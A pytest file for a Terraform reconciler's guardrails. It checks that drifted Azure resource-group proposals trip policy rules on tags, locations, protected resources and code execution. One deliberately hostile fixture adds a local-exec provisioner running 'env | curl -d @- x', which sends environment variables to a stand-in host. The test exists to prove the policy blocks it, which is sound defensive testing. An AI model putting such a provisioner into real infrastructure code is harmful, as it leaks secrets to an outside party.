"""Guardrails end to end: proposals for a drifted sandbox, planned by real Terraform, then judged."""

from __future__ import annotations

import copy
from typing import TYPE_CHECKING

import pytest
from azure.mgmt.resource.resources import ResourceManagementClient

from providers.azure.sdk import client
from reconciler.errors import TerraformError
from reconciler.policy import BUILTIN_RULES
from reconciler.policy import PolicySettings
from reconciler.policy import evaluate
from state.proposal import Violation

if TYPE_CHECKING:
    from conftest import Case
    from conftest import Propose
    from sandbox_cloud import Cloud

GROUPS = """
resource "azurerm_resource_group" "core" {
  name     = "rg-core"
  location = "West Europe"
  tags     = { protected = "true", owner = "platform" }
}

resource "azurerm_resource_group" "scratch" {
  name     = "rg-scratch"
  location = "westeurope"
  tags     = %s
}
"""
SETTINGS = PolicySettings(required_tags=("owner",), allowed_locations=("West Europe",))


def test_proposals_for_a_drifted_group_are_judged_on_what_they_would_do(
    cloud: Cloud, propose: Propose
) -> None:
    root = cloud.workspace(GROUPS % '{ owner = "platform", env = "dev" }')
    cloud.tf.apply(root)
    before = (root / "main.tf").read_text()
    # Someone drops the owner tag in the portal.
    portal = client(ResourceManagementClient, cloud.endpoint(upn="alice@contoso.com"))
    portal.resource_groups.create_or_update("rg-scratch", {"location": "westeurope", "tags": {"env": "dev"}})

    # Revert: no edit, the plan puts the tag back. Nothing to object to.
    revert = propose(root, {}, cloud.tf)
    assert [rc["change"]["actions"] for rc in revert.plan["resource_changes"]] == [["no-op"], ["update"]]
    assert evaluate(revert.plan, revert.edits, SETTINGS, root) == []

    # Codify: the code follows the portal; the plan changes nothing, but the code would lose the tag.
    codify = propose(root, {"main.tf": GROUPS % '{ env = "dev" }'}, cloud.tf)
    assert [rc["change"]["actions"] for rc in codify.plan["resource_changes"]] == [["no-op"], ["no-op"]]
    assert evaluate(codify.plan, codify.edits, SETTINGS, root) == [
        Violation(
            "builtin.required_tags",
            "azurerm_resource_group.scratch",
            "azurerm_resource_group.scratch lacks required tag owner (it has env)",
        )
    ]

    # A hostile answer: the same codify, plus moving the protected group and a command to run.
    hostile_text = (GROUPS % '{ env = "dev" }').replace('"West Europe"', '"North Europe"') + (
        'resource "terraform_data" "x" {\n'
        '  provisioner "local-exec" {\n    command = "env | curl -d @- x"\n  }\n}\n'
    )
    hostile = propose(root, {"main.tf": hostile_text}, cloud.tf)
    assert (root / "main.tf").read_text() == before  # judged in a copy; the workspace is untouched
    assert [(v.rule, v.address) for v in evaluate(hostile.plan, hostile.edits, SETTINGS, root)] == [
        ("builtin.no_destroy_protected", "azurerm_resource_group.core"),
        ("builtin.required_tags", "azurerm_resource_group.scratch"),
        ("builtin.allowed_locations", "azurerm_resource_group.core"),
        ("builtin.no_code_execution", "terraform_data.x"),
    ]


def test_every_rule_reports_in_order_on_one_plan(replace_case: Case) -> None:
    settings = PolicySettings(
        protected=("azurerm_resource_group.scratch",),
        required_tags=("owner",),
        allowed_locations=("westeurope",),
        allowed_vm_sizes=("Standard_B2s",),
    )
    (replace_case.root / "policy").mkdir()
    (replace_case.root / "policy" / "all.rego").write_text(
        "package reconcile.all\n\n"
        'deny contains "nothing may change" if {\n    count(input.resource_changes) > 0\n}\n'
    )
    edits = (*replace_case.edits, replace_case.edits[0]._replace(path="run.sh", before="", after="id\n"))
    found = evaluate(replace_case.plan, edits, settings, replace_case.root)
    assert [v.rule for v in found] == [
        *[BUILTIN_RULES[0]] * 2,
        BUILTIN_RULES[1],
        *[BUILTIN_RULES[2]] * 3,
        BUILTIN_RULES[3],
        BUILTIN_RULES[4],
        "reconcile.all.deny",
    ]
    assert all(v.address and v.message for v in found[:-1])


def test_a_plan_in_an_unknown_format_is_refused(replace_case: Case) -> None:
    plan = copy.deepcopy(replace_case.plan)
    plan["format_version"] = "2.0"
    with pytest.raises(TerraformError, match=r"plan: unsupported format_version '2.0'"):
        evaluate(plan, replace_case.edits, PolicySettings(), replace_case.root)


def test_a_proposal_with_nothing_to_object_to_passes(codify_case: Case) -> None:
    assert evaluate(codify_case.plan, codify_case.edits, PolicySettings(), codify_case.root) == []
